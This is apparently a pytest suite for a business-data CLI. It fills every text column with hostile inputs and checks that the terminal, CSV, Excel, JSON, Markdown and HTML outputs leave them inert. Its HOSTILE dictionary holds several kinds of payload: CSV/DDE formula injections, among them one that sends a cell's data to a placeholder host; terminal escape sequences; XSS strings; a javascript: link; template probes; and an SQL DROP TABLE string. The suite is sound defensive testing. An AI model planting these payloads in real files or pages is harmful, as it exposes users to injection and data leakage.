"""Values that would act on whatever shows them stand in every text of the data, and act on nothing.

Each format keeps them as the values that they are: what a program reads back is what was written, apart from the
signs that the format cannot hold.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import shutil
import unicodedata
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING, Any
from uuid import NAMESPACE_OID, uuid5

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from opttius_cli.catalog.tables import TABLES
from opttius_cli.render.registry import RENDERERS

if TYPE_CHECKING:
    from collections.abc import Callable

    from cli.run_program import RunResult

HOSTILE = {
    "formula": '=HYPERLINK("http://x.example/?"&A1,"a")',
    "command": "+cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "wide formula": "\uff1d1+1",
    "tab formula": "\t=1+1",
    "return formula": "\r=1+1",
    "colour": "\x1b[31mred\x1b[0m",
    "title": "\x1b]0;owned\x07 x",
    "clear": "\x1b[2J\x1b[H x",
    "8 bit": "\x9b31m x",
    "link": "\x1b]8;;http://x.example\x1b\\x\x1b]8;;\x1b\\",
    "backspace": "x\b\b\b\x7fy",
    "bidi": "abc\u202ecba\u2066x\u2069",
    "zero width": "a\u200bb\ufeffc",
    "lines": "one\r\ntwo\nthree\u2028four",
    "nul": "a\x00b",
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "entity": "&lt;b&gt; &amp; \x26#60;",
    "end of script": "</script><!--<![CDATA[",
    "markdown": "[a](javascript:alert(1)) | b | `c` **d** ![e](x)",
    "heading": "# x\n| --- |\n```",
    "template": "{{7*7}} ${7*7} {0.__class__} %(x)s %s",
    "quotes": 'a\'; DROP TABLE raw.orders; -- "b"',
}
"""What is put into the data, under a name for messages."""


def _store(text: str) -> str:
    """A text as a snapshot keeps it: without blanks, controls and marks around it."""
    inside = [place for place, sign in enumerate(text) if unicodedata.category(sign)[0] not in "ZC"]
    return text[inside[0] : inside[-1] + 1]


STORED = {name: _store(text) for name, text in HOSTILE.items()}
"""What a format that holds every sign gives back."""

OWN_PALETTE = re.compile(r"\x1b\[[0-9;]*m")
ORGANIZATION = str(uuid5(NAMESPACE_OID, "organization"))
SCOPE = ("-O", ORGANIZATION, "--as-of", "2026-11-22", "--lang", "en")
PERIOD = ("-p", "2026")
WINDOWED = ("dashboard", "segments", "export")
WHOLE = ("--reveal-pii", "--reason", "a test")
UNTOUCHED = {"currency", "metadata", "features", "role"}
"""Texts that decide how rows are read: whose hostile values have tests of their own."""
CUSTOMER = str(uuid5(NAMESPACE_OID, "customers0"))


def _value(table: str, column: Any, number: int, hostile: str) -> Any:
    """What stands in a column: the hostile text wherever any text may stand."""
    name, kind = column.name, column.kind.value
    if name == "id":
        return str(uuid5(NAMESPACE_OID, f"{table}{number}"))
    if name == "organization_id":
        return ORGANIZATION
    if name.endswith("_id"):
        target = {"branch_id": "branches", "customer_id": "customers", "order_id": "orders"}.get(name, "")
        return (
            str(uuid5(NAMESPACE_OID, f"{target}{0 if name == 'branch_id' else number}")) if target else None
        )
    if name in UNTOUCHED:
        return "CLP" if name == "currency" else None
    if name == "payment_status":
        return "paid"
    return {
        "text": hostile,
        "instant": f"2026-11-{10 + number % 10} 15:00:00+00",
        "date": f"2026-11-{10 + number % 10}",
        "money": str(1000 + number),
        "number": str(1 + number),
        "json": "{}",
        "flag": "true",
        "list": json.dumps([hostile], ensure_ascii=True),
    }.get(kind, hostile)


@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of Parquet files: the one kind of export that holds every sign."""
    folder = tmp_path_factory.mktemp("hostile")
    for table in TABLES.values():
        rows: list[dict[str, Any]] = []
        for number, hostile in enumerate(HOSTILE.values()):
            row = {column.name: _value(table.name, column, number, hostile) for column in table.columns}
            if table.name in {"organizations", "branches"}:
                row["id"] = ORGANIZATION if table.name == "organizations" else row["id"]
                # A name that is told at the head of everything.
                row["name"] = row["code"] = HOSTILE["title"] + HOSTILE["script"]
                if table.name == "organizations":
                    # Any other tier would keep everything from being shown, which is a test of its own.
                    row["subscription_tier"] = "pro"
                rows = rows or [row]
                continue
            rows.append(row)
        columns = {
            name: [row.get(name) for row in rows] for name in (column.name for column in table.columns)
        }
        pq.write_table(
            pa.table({k: pa.array(v, pa.string()) for k, v in columns.items()}),
            folder / f"{table.name}.parquet",
        )
    return folder


@pytest.fixture(autouse=True)
def _single_snapshot(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPTTIUS_CACHE_FOLDER", str(tmp_path_factory.getbasetemp() / "hostile-cache"))


COMMANDS = [
    ("dashboard",),
    ("customers",),
    ("customer", CUSTOMER),
    ("segments",),
    ("segments", "--movement"),
    ("drivers",),
    ("check",),
    *(
        ("export", name)
        for name in ("customers", "sales", "top-products", "quotes", "appointments", "work-orders")
    ),
]


Written = dict[str, tuple[bytes, str]]
_answers: dict[tuple[str, ...], Written] = {}


@pytest.fixture
def written(run: Callable[..., RunResult], source: Path) -> Callable[..., Written]:
    """Each command's answer in a format, whole: its file, and what was said beside it. Worked out once."""

    def all_of(form: str, *more: str) -> Written:
        outputs = _answers.setdefault((form, *more), {})
        for command in COMMANDS if not outputs else ():
            file = Path(f"answer.{RENDERERS[form].extension}")
            period = PERIOD if command[0] in WINDOWED else ()
            asked = (*command, "-s", source, *SCOPE, *period, *WHOLE)
            ran = run(*asked, "-f", form, "-o", file, "--force", *more)
            assert ran.code == 0, (command, ran.err)
            outputs[" ".join(command[: 2 if command[0] == "export" else 1])] = (file.read_bytes(), ran.err)
        return outputs

    return all_of


def test_the_data_is_hostile(run: Callable[..., RunResult], source: Path) -> None:
    ran = run("load", "-s", source, "-f", "json")
    assert ran.code == 0, ran.err
    rows = {row["table_name"]: row for row in json.loads(ran.out)["rows"]}
    assert rows["customers"]["rows_read"] == len(HOSTILE)
    tables = ("customers", "orders", "lab_work_orders", "quotes", "appointments", "order_items", "products")
    assert [rows[name]["refused"] for name in tables] == [0] * len(tables)


def plain(text: str) -> str:
    """A text of the screen without the colours that the program itself paints with."""
    return OWN_PALETTE.sub("", text)


def acting(text: str, *allowed: str) -> set[str]:
    """The signs of a text that a terminal may obey, or that show nothing."""
    return {sign for sign in set(text) - {"\n", "\u00a0", "\u202f", *allowed} if not sign.isprintable()}


def test_a_hostile_tier_is_shown_harmless(
    run: Callable[..., RunResult], source: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "other"
    shutil.copytree(source, folder)
    table = pq.read_table(folder / "organizations.parquet")
    place = table.column_names.index("subscription_tier")
    tiers = pa.array([HOSTILE["title"] + HOSTILE["script"]])
    pq.write_table(table.set_column(place, "subscription_tier", tiers), folder / "organizations.parquet")
    refused = run("dashboard", "-s", folder, *SCOPE)
    assert (refused.code, acting(refused.err)) == (5, set())
    assert "owned x<script>" in refused.err.replace("\ufffd", "").replace("]0;", "")


@pytest.mark.parametrize("form", ["table", "md", "json"])
def test_a_terminal_has_nothing_to_obey(
    run: Callable[..., RunResult], source: Path, form: str, written: Callable[..., Written]
) -> None:
    shown = run("customers", "-s", source, *SCOPE, *WHOLE, "-f", form)
    assert (shown.code, acting(shown.out), acting(shown.err)) == (0, set(), set())
    for name, (data, stderr) in written(form).items():
        assert (acting(data.decode()), acting(stderr)) == (set(), set()), name


def test_json_holds_the_stored_values(written: Callable[..., Written]) -> None:
    answers = {name: json.loads(data) for name, (data, _stderr) in written("json").items()}
    products = {row["product"] for row in answers["export top-products"]["rows"]}
    assert products >= set(STORED.values())
    assert {row["rut"] for row in answers["customers"]["rows"]} == set(STORED.values())
    assert {row["lens"] for row in answers["export work-orders"]["rows"]} == set(STORED.values())
    assert answers["dashboard"]["scope"]["organization"]["name"] == _store(
        HOSTILE["title"] + HOSTILE["script"]
    )
    assert set(answers["dashboard"]["quotes"]["by_status"]) == {
        status.casefold() for status in STORED.values()
    }


def test_parquet_holds_the_stored_values(written: Callable[..., Written]) -> None:
    tables = {name: pq.read_table(io.BytesIO(data)) for name, (data, _stderr) in written("parquet").items()}
    assert set(tables["customers"].column("rut").to_pylist()) == set(STORED.values())


@pytest.mark.parametrize("dialect", ["plain", "excel-es"])
def test_csv_cells_are_texts(written: Callable[..., Written], dialect: str) -> None:
    csv.field_size_limit(10_000_000)
    for name, (data, _stderr) in written("csv", "--csv-dialect", dialect).items():
        delimiter = ";" if dialect == "excel-es" else ","
        text = data.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text.replace("\x00", "\u2400"), newline=""), delimiter=delimiter))
        assert {len(row) for row in rows} == {len(rows[0])}, name
        for cell in itertools.chain.from_iterable(rows[1:]):
            assert not re.match(r"[\s\x00]*[=+\-@\uff1d](?![\d.,]*$)|[\t\r]", cell), (name, cell[:40])
        if name == "customers":
            place = rows[0].index("rut")
            cells = {row[place].removeprefix("'").replace("\u2400", "\x00") for row in rows[1:]}
            stored = set(STORED.values())
            # Excel shows nothing of these signs, and they may act where the cell goes next.
            unseen = r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
            assert cells == (
                {re.sub(unseen, "", text) for text in stored} if dialect == "excel-es" else stored
            )


def test_a_workbook_runs_nothing(written: Callable[..., Written]) -> None:
    for name, (data, _stderr) in written("xlsx").items():
        book = openpyxl.load_workbook(io.BytesIO(data))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        formulas = {str(cell.value) for cell in cells if cell.data_type == "f"}
        # A total is the program's own, and names nothing but a column of its table.
        assert not {
            formula
            for formula in formulas
            if not re.fullmatch(r"=SUBTOTAL\(109,\w+\[[^=]{1,40}\]\)", formula)
        }, name
        assert not [cell.coordinate for cell in cells if cell.hyperlink], name
        with zipfile.ZipFile(io.BytesIO(data)) as packed:
            parts = packed.namelist()
            assert not [part for part in parts if "externalLink" in part or "vba" in part.lower()], parts
        if name == "customers":
            texts = {cell.value for cell in cells if isinstance(cell.value, str)}
            for key, value in STORED.items():
                cleaned = re.sub(r"[\x00-\x08\x0b-\x1f]", "", value.replace("\r\n", "\n").replace("\r", "\n"))
                assert (cleaned in texts) or (
                    key == "long" and any(text.startswith("L" * 30_000) for text in texts)
                ), key


def test_markdown_is_text(written: Callable[..., Written]) -> None:
    for name, (data, _stderr) in written("md").items():
        text = data.decode()
        assert "<" not in text.replace("&lt;", ""), name
        assert not re.search(r"(?<!\\)\]\(", text), name
        tables = [line for line in text.splitlines() if line.startswith("|")]
        for line in tables:
            assert line.endswith("|"), name


class Page(HTMLParser):
    """What a page consists of: the tags, and the attributes that could act."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.acting: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.acting.append(f"{tag} {name}={value}")


@pytest.mark.skipif("html" not in RENDERERS, reason="there are no pages yet")
def test_a_page_runs_nothing(written: Callable[..., Written]) -> None:
    for name, (data, _stderr) in written("html").items():
        text = data.decode()
        page = Page()
        page.feed(text)
        assert not page.acting, name
        assert "img" not in page.tags, name
        assert "alert(1)</script" not in text.lower(), name
        assert not [sign for sign in set(text) if ord(sign) < 32 and sign not in "\n\t"], name


MEGABYTE = "ñ" * 1_000_000


def test_a_megabyte_is_a_value_like_any_other(run: Callable[..., RunResult], tmp_path: Path) -> None:
    """In one cell, in every format; a workbook holds as much of it as its cells can."""
    folder = tmp_path / "long"
    folder.mkdir()
    owner = f"organization_id,branch_id\n{ORGANIZATION},{CUSTOMER}\n"
    (folder / "branches.csv").write_text(
        f"id,name,{owner}".replace("\n", f"\n{CUSTOMER},x,", 1).replace(f",{CUSTOMER}\n", ",\n")
    )
    (folder / "customers.csv").write_text(
        f"id,branch_id,first_name,rut,created_at\n{CUSTOMER},{CUSTOMER},{MEGABYTE},{MEGABYTE},2026-11-01 00:00:00+00\n"
    )
    (folder / "orders.csv").write_text("id,status,payment_status,total_amount,created_at\n")
    for form in RENDERERS:
        file = Path(f"long.{RENDERERS[form].extension}")
        ran = run("customers", "-s", folder, *SCOPE[2:], *WHOLE, "-f", form, "-o", file)
        assert ran.code == 0, ran.err
        data = file.read_bytes()
        if form in {"json", "csv", "md", "html", "table"}:
            assert MEGABYTE in data.decode(), form
        if form == "xlsx":
            texts = [
                cell.value
                for sheet in openpyxl.load_workbook(file)
                for row in sheet.iter_rows()
                for cell in row
            ]
            assert any(isinstance(text, str) and text.startswith("ñ" * 32_000) for text in texts)
    assert run("check", "-s", folder, *SCOPE[2:]).code == 0


def test_colours_are_the_programs_own(source: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """On a terminal, with colour: the only escape sequences are those of the program's own palette."""
    out = on_terminal("customers", "-s", str(source), *SCOPE, *WHOLE)
    assert "\x1b[" in out, "there is colour, else the test would see nothing"
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202e\u2066]", plain(out))


def on_terminal(*arguments: str) -> str:
    """What the program writes to a terminal of its own."""
    import os
    import pty
    import sys

    process, terminal = pty.fork()
    if process == 0:
        os.environ["COLUMNS"] = "200"
        os.execv(sys.executable, [sys.executable, "-m", "opttius_cli", *arguments])  # noqa: S606
    pieces = []
    while True:
        try:
            piece = os.read(terminal, 65536)
        except OSError:
            break
        if not piece:
            break
        pieces.append(piece)
    os.waitpid(process, 0)
    os.close(terminal)
    return b"".join(pieces).decode(errors="replace").replace("\r\n", "\n")
